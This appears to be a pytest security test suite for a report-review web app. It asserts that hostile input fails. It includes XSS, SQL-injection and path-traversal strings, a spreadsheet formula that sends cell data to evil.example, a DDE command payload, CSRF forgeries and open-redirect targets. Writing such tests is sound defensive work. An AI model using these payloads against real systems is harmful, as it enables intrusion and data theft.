"""Attempts to do harm, each of which must fail: by what a report says, by what is typed, by how it is sent."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from urllib.parse import quote
from uuid import uuid4

import anyio
import pytest
from fastapi.testclient import TestClient
from lxml import html
from msgspec.structs import replace
from sqlalchemy import func, select

from isnad.api.app import create_app
from isnad.api.guard import Guard
from isnad.api.settings import Settings
from isnad.record.ids import sha256_hex
from isnad.store.schema import decision, event_view
from isnad.store.store import Store
from kept_store import coded_reports

from .conftest import Open, SignIn, form_token, kept_at, send
from .hostile import MARK, WORST, add_hostile, hostile_key, hostile_report

FIRST = coded_reports()[0][0]
DOCUMENT, KEY = FIRST.document.id, FIRST.events[0].key
_URLS = ("href", "src", "action", "formaction", "data-src")


def harmless(page: str) -> None:
    """Assert that a page holds no script, no handler and no address that the desk did not write."""
    tree = html.fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            assert MARK not in (element.text or "")
            continue
        assert element.tag not in ("iframe", "object", "embed", "base", "style", "svg", "img"), element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name != "style"
            if name in _URLS:
                assert re.match(r"(/(?!/)|#|\?|data:,$)", value) or value == "https://a.example/", value
        if element.tag == "script":
            assert element.get("type") == "application/json" or element.get("src", "").startswith("/static/")
    assert "{{ 49" not in page


@pytest.fixture(scope="module")
def harmed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store with a hostile report; tests that use it only read."""
    held = kept_at(tmp_path_factory.mktemp("harmed") / "kept.db")
    add_hostile(held, hostile_report())
    yield held
    held.close()


@pytest.fixture(scope="module")
def hurt(harmed: Store) -> Iterator[TestClient]:
    """A desk over it, with a hostile comment besides."""
    app = create_app(harmed, Settings(hosts=("desk.example",), local_user="huda"))
    with TestClient(app, base_url="http://desk.example", follow_redirects=False) as client:
        key = hostile_key(FIRST.events[1].key)
        answer = send(client, "/decide", action="comment", document="doc-hostile", event=key, reason=f"{WORST}@huda")
        assert answer.status_code == 303  # type: ignore[attr-defined]
        yield client


HOSTILE_PAGES = (
    "/queue",
    "/mine",
    "/documents/doc-hostile",
    "/events",
    "/live",
    "/sources",
    "/incidents",
    "/searches",
    "/agreement",
    f"/events/{hostile_key(KEY)}",
    f"/events?q={quote(chr(34) + '<script>')}",
    f"/queue?words={quote('<script>alert(1)</script>')}",
    f"/events?place={quote(chr(34) + '><script>alert(1)</script>')}",
    f"/documents/{quote('<script>alert(1)</script>')}",
    f"/incidents/{quote('<img src=x onerror=alert(1)>')}",
    f"/events?cursor={quote('<script>')}",
    f"/{quote('<script>alert(1)</script>')}",
    f"/events?order={quote('<script>')}",
    f"/searches?q={quote('text:' + chr(34) + '<script>alert(1)</script>' + chr(34))}",
    f"/exports?words={quote(chr(39) + chr(34) + '><script>')}",
    f"/sign-in?next={quote('javascript:alert(1)')}",
)


@pytest.mark.parametrize("path", HOSTILE_PAGES)
def test_nothing_that_a_report_or_an_address_says_becomes_markup(hurt: TestClient, path: str) -> None:
    for language in ("ar", "en"):
        answer = hurt.get(path, headers={"accept-language": language})
        assert answer.status_code < 500
        harmless(answer.text)


def test_what_hostile_people_type_becomes_no_markup_either(signed: SignIn) -> None:
    admin = signed("huda")
    send(admin, "/users", user="eve<script>", name=WORST, role="coder", groups=f"<b>{MARK}")
    send(admin, "/searches", name='x"><script>alert(1)</script>', query='"<script>alert(1)</script>"', alert="1")
    send(admin, "/account/tokens", name="<img src=x onerror=alert(1)>", days="3")
    for path in ("/users", "/searches", "/account"):
        harmless(admin.get(path).text)


def test_the_text_is_one_node_a_part_and_its_offsets_are_a_browsers(hurt: TestClient) -> None:
    tree = html.fromstring(hurt.get("/documents/doc-hostile").text)
    text = hostile_report().document.text
    units = text.encode("utf-16-le")
    (article,) = tree.xpath('//article[@class="source-text"]')
    assert article.get("dir") == "rtl"
    for part in article:
        assert len(part) == 0
        start, end = int(part.get("data-start")), int(part.get("data-end"))
        assert part.text == units[2 * start : 2 * end].decode("utf-16-le")


def test_a_word_of_a_million_letters_is_shown(store: Store, local: TestClient) -> None:
    report = hostile_report("ق")
    text = report.document.text + "ق" * 1_000_000
    add_hostile(store, replace(report, document=replace(report.document, text=text, text_sha256=sha256_hex(text))))
    for path in ("/documents/doc-hostile", "/queue", "/live", "/events"):
        answer = local.get(path)
        assert answer.status_code == 200
    assert local.get("/api/documents/doc-hostile").status_code == 200


INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE decision; --",
    'text:"\\" OR NEAR(a b)"',
    "*",
    "(((((",
    '"',
    "-",
    "OR OR OR",
    "a:" * 500,
    "place:'%'",
    "class:shelling\n\r\tclass:arrest",
    "key:../../etc",
    "\ud800",
    "\U0010ffff",
    "{{7*7}}",
    "%s%s%n",
    "a" * 30_000,
    "near:0,0,1e309km",
    "killed>=99999999999999999999",
    "date:9999-99-99..",
    "conf>=nan",
    'text:"' + "a " * 2_000 + '"',
)


@pytest.mark.parametrize("query", INJECTIONS, ids=range(len(INJECTIONS)))
def test_no_query_breaks_the_store_or_reaches_beyond_it(hurt: TestClient, harmed: Store, query: str) -> None:
    asked = query.encode("utf-8", "surrogatepass")
    for path in ("/api/events", "/api/points", "/api/points/columns", "/api/timeline", "/api/incidents", "/api/queue"):
        answer = hurt.get(f"{path}?q={quote(asked)}")
        assert answer.status_code in (200, 400), (path, answer.text[:200])
    for name in ("words", "place", "class", "actor", "from", "least", "without", "tag", "status"):
        answer = hurt.get(f"/api/timeline?{name}={quote(asked)}")
        assert answer.status_code in (200, 400), (name, answer.text[:200])
    with harmed.reading() as connection:
        assert connection.execute(select(func.count()).select_from(decision)).scalar() == 4
        assert connection.execute(select(func.count()).select_from(event_view)).scalar()


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/..%5capp.py",
        "/static//etc/passwd",
        "/static/....//app.py",
        "/static/%252e%252e/app.py",
        "/static/",
        "/static/.gitkeep/../../settings.py",
        "/documents/..%2f..%2fusers",
        "/link/..%2fusers",
    ],
)
def test_no_path_leads_out_of_its_folder(local: TestClient, path: str) -> None:
    answer = local.get(path)
    assert answer.status_code in (303, 404)
    assert "create_app" not in answer.text


@pytest.mark.parametrize(
    ("form", "profile"),
    [("../../etc/passwd", "public"), ("csv", "../public"), ("csv", ""), ("", "internal"), ("jsonl", "public")],
)
def test_no_export_of_what_is_no_form_or_profile(local: TestClient, form: str, profile: str) -> None:
    answer = send(local, "/exports", form=form, profile=profile)
    assert answer.status_code == 400  # type: ignore[attr-defined]


def test_a_formula_in_a_report_is_none_in_the_export(store: Store, local: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    hurt = hostile_report()
    add_hostile(store, replace(hurt, document=replace(hurt.document, outlet=formula, uri="+cmd|' /C calc'!A0")))
    answer = send(local, "/exports", form="csv", profile="internal", samples="1")
    assert answer.status_code == 200  # type: ignore[attr-defined]
    packed = zipfile.ZipFile(io.BytesIO(answer.content))  # type: ignore[attr-defined]
    assert packed.namelist() == ["events-internal.csv", "events-internal.csv.manifest.json"]
    rows = list(csv.reader(io.StringIO(packed.read("events-internal.csv").decode("utf-8-sig"))))
    assert any("HYPERLINK" in cell for row in rows for cell in row)
    assert [cell for row in rows for cell in row if re.match(r"[=+@\t\r]", cell)] == []


WAYS_TO_FORGE = {
    "no token": ({}, {}),
    "an empty token": ({"csrf": ""}, {}),
    "a made-up token": ({"csrf": "ab" * 64}, {}),
    "the token in the address": ({}, {}),
    "from another site": ({"csrf": "own"}, {"origin": "https://evil.example"}),
    "from a sandbox": ({"csrf": "own"}, {"origin": "null"}),
    "as a browser says": ({"csrf": "own"}, {"sec-fetch-site": "cross-site"}),
    "from a neighbour": ({"csrf": "own"}, {"sec-fetch-site": "same-site"}),
    "with another's token": ({"csrf": "other"}, {}),
}


@pytest.mark.parametrize("way", WAYS_TO_FORGE)
def test_no_other_site_decides_for_somebody(signed: SignIn, store: Store, way: str) -> None:
    client = signed("omar")
    fields, headers = WAYS_TO_FORGE[way]
    token = {"own": form_token(client), "other": form_token(signed("rima"))}.get(
        fields.get("csrf", ""), fields.get("csrf")
    )
    data = {"action": "reject", "document": DOCUMENT, "event": KEY} | ({} if token is None else {"csrf": token})
    path = f"/decide?csrf={form_token(client)}" if way == "the token in the address" else "/decide"
    assert client.post(path, data=data, headers=headers).status_code == 403
    with store.reading() as connection:
        assert connection.execute(select(event_view.c.status).where(event_view.c.key == KEY)).scalar() != "rejected"


@pytest.mark.parametrize("kind", ["text/plain", "application/json", "application/x-www-form-urlencoded"])
def test_no_json_is_taken_from_a_page_without_its_token(signed: SignIn, kind: str) -> None:
    body = b'{"action": "reject", "document_id": "%s", "event_key": "%s"}' % (DOCUMENT.encode(), KEY.encode())
    answer = signed("omar").post("/api/decisions", content=body, headers={"content-type": kind})
    assert (answer.status_code, answer.json()["error"]["kind"]) == (403, "forged")


def test_a_coder_takes_back_nothing_of_anothers(signed: SignIn) -> None:
    reviewer, coder = signed("omar"), signed("lina")
    send(reviewer, "/decide", action="flag", document=DOCUMENT, event=KEY, decision_id=str(uuid4()))
    taken = coder.get(f"/api/documents/{DOCUMENT}").json()["decisions"][-1]["id"]
    answer = send(coder, "/decide", action="undo", undoes=taken)
    assert answer.status_code == 403  # type: ignore[attr-defined]


def test_the_id_of_anothers_decision_is_not_taken_over(signed: SignIn) -> None:
    reviewer, coder = signed("omar"), signed("lina")
    sent = {"action": "flag", "document": DOCUMENT, "event": KEY, "decision_id": str(uuid4())}
    send(reviewer, "/decide", **sent)
    assert send(coder, "/decide", **sent).status_code == 400  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("content", "headers", "status"),
    [
        (b"a=" + b"x" * 2_000_000, {"content-type": "application/x-www-form-urlencoded"}, 413),
        (b"&".join(b"a=1" for _ in range(5_000)), {"content-type": "application/x-www-form-urlencoded"}, 400),
        (b"\x1f\x8b", {"content-encoding": "gzip", "content-type": "application/json"}, 415),
        (b"\x1f\x8b", {"content-encoding": "br"}, 415),
        (b"--b\r\nbroken", {"content-type": "multipart/form-data; boundary=b"}, 404),
        (b"x", {"content-type": "multipart/form-data"}, 400),
        (
            b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\nx\r\n--b--\r\n',
            {"content-type": "multipart/form-data; boundary=b"},
            400,
        ),
        (b"a=%00", {"content-type": "application/x-www-form-urlencoded"}, 400),
    ],
)
def test_what_is_too_large_or_packed_or_broken_is_refused(
    local: TestClient, content: bytes, headers: dict[str, str], status: int
) -> None:
    answer = local.post("/decide", content=content, headers={**headers, "x-csrf-token": form_token(local)})
    assert answer.status_code == status


def test_a_body_that_hides_its_size_is_refused(local: TestClient) -> None:
    def endless() -> Iterator[bytes]:
        for _ in range(300):
            yield b"x" * 10_000

    assert local.post("/sign-in", content=endless()).status_code == 413


def test_a_body_that_drips_is_given_up() -> None:
    sent: list[dict[str, object]] = []

    async def dripping() -> dict[str, object]:
        await anyio.sleep(0.02)
        return {"type": "http.request", "body": b"x", "more_body": True}

    async def send_back(message: dict[str, object]) -> None:
        sent.append(message)

    async def never(*_: object) -> None:
        raise AssertionError("the application was reached")

    scope = {
        "type": "http", "method": "POST", "path": "/decide", "query_string": b"",
        "headers": [(b"host", b"localhost")],
    }  # fmt: skip
    guard = Guard(never, Settings(body_wait=0.1))
    anyio.run(guard, scope, dripping, send_back)  # type: ignore[arg-type]
    assert sent[0]["status"] == 408


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b'"x"',
        b"[" * 100_000,
        b'{"action":' * 50_000,
        b"\xff\xfe",
        b'{"action": "accept"}',
        b'{"action": "accept", "document_id": {"a": 1}}',
        b'{"action": "accept", "document_id": "' + b"x" * 100_000 + b'"}',
        b'{"action": "correct", "document_id": "%s", "event_key": "%s", "field": "harm", "human": [{"start": -1}]}'
        % (DOCUMENT.encode(), KEY.encode()),
        b'{"action": "correct", "document_id": "%s", "event_key": "%s", "field": "places", "human": {"a": [1e999]}}'
        % (DOCUMENT.encode(), KEY.encode()),
        b'{"action": "undo", "undoes": "\\ud800"}',
        b'{"action": "undo", "id": "dec-\\u0000aaaaaaaaaaaaaaaaaaaa"}',
    ],
    ids=range(15),
)
def test_no_json_breaks_the_desk(local: TestClient, body: bytes) -> None:
    headers = {"content-type": "application/json", "x-csrf-token": form_token(local)}
    for path in ("/api/decisions", "/api/judgements", "/api/searches", "/api/exports"):
        assert local.post(path, content=body, headers=headers).status_code in (400, 404), path


@pytest.mark.parametrize("method", ["PUT", "PATCH", "TRACE", "CONNECT", "OPTIONS", "PROPFIND"])
def test_other_methods_are_not_used(local: TestClient, method: str) -> None:
    assert local.request(method, "/events").status_code == 405


@pytest.mark.parametrize(
    "path", ["/decide", "/judge", "/sign-out", "/users/x/link", "/api/decisions", "/searches/x/drop"]
)
def test_nothing_is_changed_by_an_address_alone(local: TestClient, path: str) -> None:
    assert local.get(path + "?action=undo&_method=POST", headers={"x-http-method-override": "POST"}).status_code == 405


@pytest.mark.parametrize(
    "host",
    ["evil.example", "desk.example.evil.example", "", "desk.example@evil.example", "127.0.0.1.evil.example", "[::1"],
)
def test_the_desk_answers_under_its_own_names_alone(local: TestClient, host: str) -> None:
    answer = local.get("/events", headers={"host": host})
    assert answer.status_code == 421


def test_a_link_names_the_desk_and_not_whom_a_header_names(signed: SignIn) -> None:
    admin = signed("huda")
    headers = {"x-forwarded-host": "evil.example", "forwarded": "host=evil.example"}
    page = admin.post("/users/lina/link", data={"csrf": form_token(admin)}, headers=headers).text
    assert "http://desk.example/link/" in page
    assert "evil.example" not in page


@pytest.mark.parametrize(
    "wanted",
    [
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "///evil.example",
        "/\t/evil.example",
        "\\/evil.example",
        "javascript:alert(1)",
        "/%0d%0aSet-Cookie:x=y\r\nSet-Cookie: x=y",
        "http:evil.example",
        " //evil.example",
    ],
)
def test_nobody_is_led_to_another_site(team: TestClient, wanted: str) -> None:
    signed_in = team.post("/sign-in", data={"user": "lina", "password": "four words of nonsense", "next": wanted})
    switched = team.get("/lang/ar", params={"next": wanted})
    for answer in (signed_in, switched):
        assert answer.headers["location"] == "/"
        assert "x=y" not in answer.headers.get("set-cookie", "")


@pytest.mark.parametrize("name", ["__class__", "../x", "<b>", "lang", "\u202e"])
def test_languages_are_two(local: TestClient, name: str) -> None:
    assert local.get(f"/lang/{quote(name)}").status_code in (404, 422)


def test_one_reader_cannot_take_up_the_desk(opened: Open, signed: SignIn) -> None:
    client = signed("lina")
    shared = client.app.state.shared  # type: ignore[attr-defined]
    secret = next(iter(shared.sessions._held.values())).secret.hex()
    for _ in range(600):
        shared.requests.count(secret)
    answer = client.get("/api/events")
    assert answer.status_code == 429
    assert int(answer.headers["retry-after"]) > 0
    shared.requests.forget(secret)
    shared.streams["lina"] = 10
    assert client.get("/api/live/stream").status_code == 429


def test_a_failure_tells_nothing_of_the_inside(local: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("secret of the inside")

    monkeypatch.setattr("isnad.api.pages.figures.outlet_counts", broken)
    client = TestClient(local.app, base_url="http://desk.example", raise_server_exceptions=False)
    for path in ("/sources", "/api/sources"):
        answer = client.get(path)
        assert answer.status_code == 500
        assert "secret" not in answer.text
        assert "default-src 'none'" in answer.headers["content-security-policy"]
